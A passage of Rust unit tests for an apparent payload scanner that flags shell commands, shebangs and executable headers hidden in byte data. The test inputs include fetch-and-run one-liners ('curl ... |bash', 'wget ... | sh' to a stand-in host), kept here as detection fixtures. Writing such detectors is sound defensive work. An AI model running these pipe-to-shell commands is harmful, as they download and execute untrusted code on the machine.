        assert!(entropy_blocks(&[], 16).is_empty());
    }

    #[test]
    fn sparklines() {
        assert_eq!(sparkline(&[0.0, 1.0, 2.5, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0]), "▁▂▃▄▅▆▇██");
        assert_eq!(sparkline(&[-1.0, f32::NAN, 99.0, f32::INFINITY]), "▁▁██");
        assert_eq!(sparkline(&[]), "");
    }

    #[test]
    fn shell_keywords_need_word_boundaries() {
        let text = b"we evaluate the exec_prefix; reexec nothing; used based curled; bash_completion | shuf";
        assert_eq!(scan_payloads(text, 0), Vec::<Finding>::new());
        let hits = scan_payloads(b"x=1\ncurl -s http://x/a |bash\n", 10);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].offset, 14);
        assert_eq!(hits[0].kind, FindingKind::ShellCommand);
        assert_eq!(hits[0].detail, "curl, | bash: curl -s http://x/a |bash");
    }

    #[test]
    fn a_shebang_absorbs_its_interpreter() {
        let hits = scan_payloads(b"\0\0#!/bin/sh -e\n", 0);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].kind, FindingKind::Shebang);
        assert_eq!((hits[0].offset, hits[0].len), (2, 12));
        assert_eq!(hits[0].detail, "#!/bin/sh -e");
    }

    #[test]
    fn random_bytes_are_not_scripts() {
        // Both were found in 64 MiB of random data before the checks for an
        // interpreter path and for surrounding text.
        assert!(scan_payloads(b"\x01#!/\x86\xb4l\x8d\x01\x9e]\xfb", 0).is_empty());
        assert!(scan_payloads(b"\x9c\xac\x03[\x10|sh\xc9\x07q\\\x0b\xf2\xf8", 0).is_empty());
        assert!(scan_payloads(b"Z\xfd\x90^\xc1\x12\xa2\xaa\xf4ZJ1\xcb|sh\x8c\x8aWDwb", 0).is_empty());
        // Real ones still count, also at the window's end.
        for script in [&b"#! /usr/bin/env python3\n"[..], b"#!/bin/sh", b"\xff\xfe\0#!/bin/bash -x\n"] {
            let hits = scan_payloads(script, 0);
            assert_eq!(hits.iter().map(|f| f.kind).collect::<Vec<_>>(), [FindingKind::Shebang], "{script:?}");
        }
        let hits = scan_payloads(b"\xff\xfe\0wget -qO- http://x | sh\0\x8c", 0);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].detail, "wget, | sh: wget -qO- http://x | sh");
    }

    #[test]
    fn executable_headers() {
        let mut pe = vec![0u8; 0x100];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        pe[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
        let mut blob = vec![0x55u8; 32];
        blob.extend_from_slice(&pe);
        let hits = scan_payloads(&blob, 0);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!((hits[0].kind, hits[0].offset), (FindingKind::PeHeader, 32));
        assert!(hits[0].detail.contains("x86-64"), "{}", hits[0].detail);
        // MZ without a PE signature is not reported.
        assert!(scan_payloads(b"MZ and then some words", 0).is_empty());

        let macho = b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0";
        let hits = scan_payloads(macho, 4096);
        assert_eq!(hits.len(), 1);
        assert_eq!((hits[0].kind, hits[0].offset), (FindingKind::MachOHeader, 4096));
        assert!(hits[0].detail.contains("arm64"), "{}", hits[0].detail);
        // A Java class is not a fat Mach-O.
        assert!(scan_payloads(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", 0).is_empty());
        // An ELF magic with a nonsense class is not a header.
        assert!(scan_payloads(b"\x7fELF\x09\x01\x01", 0).is_empty());

        let own = file_type(macho);
        assert_eq!(own.map(|t| t.name), Some("macho"));
        let all = scan_payloads(macho, 0);
        assert!(suspicious(&all, own.as_ref()).is_empty());
        assert_eq!(suspicious(&all, None).len(), 1);
        assert_eq!(suspicious(&all, file_type(b"\x7fELF").as_ref()).len(), 1);
    }

    #[test]
    fn excerpts_are_escaped() {
        let hits = scan_payloads(b"\x1b[2J eval \"$(printf '\\x41')\"\x07\x9b\n", 0);
        assert_eq!(hits.len(), 1);
        let detail = &hits[0].detail;
        assert!(!detail.chars().any(char::is_control), "{detail:?}");
        assert_eq!(detail, "eval: \\x1b[2J eval \"$(printf '\\x41')\"\\x07\\x9b");
    }

    #[test]
    fn summary_lines() {
        let head = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
        let findings = scan_payloads(head, 0);
        let lines = summary(2048, head, &findings);
        let texts: Vec<String> = lines.iter().map(text).collect();
        assert!(texts[0].starts_with("elf — ELF"), "{texts:?}");
        assert!(texts[0].contains("2.0 KiB (2048 bytes)"), "{texts:?}");
        assert_eq!(texts[2], "no payload findings");
        let lines = summary(10, b"x\n#!/bin/sh\n", &scan_payloads(b"x\n#!/bin/sh\n", 0));
        let texts: Vec<String> = lines.iter().map(text).collect();
        assert_eq!(texts[2], "1 payload finding");
        assert_eq!(texts[3], "  00000002  shebang  #!/bin/sh");
    }
}
